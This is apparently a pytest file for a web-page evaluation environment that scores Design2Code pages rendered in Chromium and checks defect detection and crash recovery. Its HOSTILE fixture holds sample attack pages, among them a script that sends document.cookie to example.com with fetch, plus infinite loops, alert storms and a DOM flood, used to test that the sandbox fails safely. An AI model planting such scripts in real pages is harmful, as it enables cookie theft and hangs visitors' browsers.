"""The web environment on real Design2Code pages in real Chromium (one browser for the module)."""
import contextlib
import json
import pathlib
import random
import subprocess
import sys
import time

import psutil
import pytest

from envs.feedback import split_advisories
from envs.task import Task
from envs.web import design2code
from envs.web.browser import BrowserConfig
from envs.web.env import WebEnv, WebEnvConfig, judge_page, to_defects
from envs.eval.web_inject import KINDS, inject
from envs.eval.injection import already_defective, new_defects

SAMPLE = ("1002", "10297", "10032")  # small, medium and a page with many blocked assets


@pytest.fixture(scope="module")
def pages(benchmark_rows):
    return {row["id"]: row["html"] for row in benchmark_rows("design2code_testset.jsonl")}


@pytest.fixture(scope="module")
def env():
    # A short load budget keeps the hostile-page tests quick; the limits are the same code paths.
    web = WebEnv(WebEnvConfig(browser=BrowserConfig(load_budget_s=3.0), max_elements=5000))
    yield web
    web.close()


def task(target=None):
    return Task(domain="web", task_id="t", instruction="", target=target, width=1280, height=720)


# 178 repeats its menu in header and footer: the matching must still pair each block with itself.
@pytest.mark.parametrize("page_id", [SAMPLE[0], "178"])
def test_page_scored_against_itself_is_perfect(env, pages, page_id):
    fb = env.step(task(target=pages[page_id]), pages[page_id])
    assert fb.ok, fb.error
    for metric in (*design2code.METRICS, "final"):
        assert fb.reward_parts[f"d2c_{metric}"] == pytest.approx(1.0, abs=1e-9), (
            f"page {page_id}: self-score {metric} = {fb.reward_parts[f'd2c_{metric}']}")


def test_fidelity_drops_for_a_different_page(env, pages):
    fb = env.step(task(target=pages["1002"]), pages["10297"])
    assert fb.ok and fb.reward_parts["d2c_final"] < 0.6, fb.reward_parts


def test_feedback_has_render_elements_and_lines(env, pages):
    fb = env.step(task(), pages["1002"])
    assert fb.ok and fb.render_png.startswith(b"\x89PNG") and fb.render_size[0] == 1280
    assert fb.elements and all(e.lines for e in fb.elements), "every element maps to its start tag"
    json.dumps(fb.to_json(with_elements=True))


@pytest.mark.parametrize("page_id", SAMPLE[:1])
def test_injected_defects_are_detected_and_traced(env, pages, page_id):
    def judge(html):
        judged = judge_page(env.browser, html, 1280, 720, max_elements=20_000,
                            detectors=env.config.detectors, screenshot_max_height=720, full_page=False)
        return judged, split_advisories(to_defects(judged))[0]

    clean_page, clean = judge(pages[page_id])
    rng = random.Random(1)
    for kind in KINDS:
        injection = inject(clean_page.source, clean_page.layout, kind, rng,
                           avoid=already_defective(clean_page, kind))
        if injection is None:
            continue
        found = new_defects(clean, judge(injection.html)[1], kind)
        assert found, f"page {page_id}: injected {kind} at line {injection.line} was not detected"
        assert any(a <= injection.line <= b for d in found for a, b in d.lines), (
            f"page {page_id}: {kind} detected but not traced to edited line {injection.line}: "
            f"{[d.lines for d in found]}")


HOSTILE = {
    "script loop": "<p>x</p><script>while (true) {}</script>",
    "late loop": "<body onload='setTimeout(() => { for (;;) {} }, 0)'><p>x</p></body>",
    "alert storm": "<script>for (;;) alert('hi')</script>",
    "huge DOM": "<body><script>for (let i = 0; i < 3e6; i++) document.body.appendChild(document.createElement('div'))</script>",
    "network fetch": "<p>x</p><script>fetch('http://example.com/steal?c=' + document.cookie)</script>",
    "navigate away": "<p>x</p><script>location.href = 'http://example.com/'</script>",
    "new window": "<p>x</p><script>window.open('http://example.com/')</script>",
    "oversized source": "<p>" + "a" * 2_100_000 + "</p>",
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_pages_fail_in_time_and_the_worker_keeps_serving(env, name):
    t0 = time.monotonic()
    fb = env.step(task(), HOSTILE[name])
    elapsed = time.monotonic() - t0
    assert not fb.ok and fb.error is not None and fb.reward == 0.0, f"{name}: {fb.error}"
    assert elapsed < 15, f"{name}: took {elapsed:.1f}s"
    after = env.step(task(), "<h1>still here</h1>")
    assert after.ok, f"after {name}: {after.error}"


def test_large_static_dom_is_refused_with_a_clear_error(env):
    fb = env.step(task(), "<div>" + "<span>x</span>" * 6_000 + "</div>")
    assert not fb.ok and "elements" in fb.error.message


def _own_chromium(browser) -> list[psutil.Process]:
    procs = []
    for pid in browser._own_pids:
        with contextlib.suppress(psutil.NoSuchProcess):
            procs.append(psutil.Process(pid))
    return [p for p in procs if "chrom" in p.name()]


def test_a_crashed_browser_is_relaunched_for_the_next_page(env):
    env.browser.ensure_started()  # the browser starts lazily: this test may run first
    chromium = _own_chromium(env.browser)
    assert chromium, "the env should own a running Chromium"
    for proc in chromium:
        with contextlib.suppress(psutil.NoSuchProcess):  # e.g. the crash handler left first
            proc.kill()
    restarts = env.browser.restarts
    fb = env.step(task(), "<p>back again</p>")
    assert fb.ok, fb.error
    assert env.browser.restarts == restarts + 1


def test_check_cli_judges_a_page(tmp_path):
    page = tmp_path / "page.html"
    page.write_text("<html><body>\n<p style='color:#fafafa'>faint words here</p>\n</body></html>\n")
    out = subprocess.run([sys.executable, "-m", "envs.check", "--domain", "web", str(page), "--out",
                          str(tmp_path / "out")], capture_output=True, text=True, timeout=120,
                         cwd=pathlib.Path(__file__).resolve().parents[3])
    assert out.returncode == 0, out.stderr[-2000:]
    report = json.loads(out.stdout)
    assert report["ok"] and [d["kind"] for d in report["defects"]] == ["low_contrast"]
    assert report["defects"][0]["lines"] == [[2, 2]]
    assert (tmp_path / "out" / "defects.png").is_file()
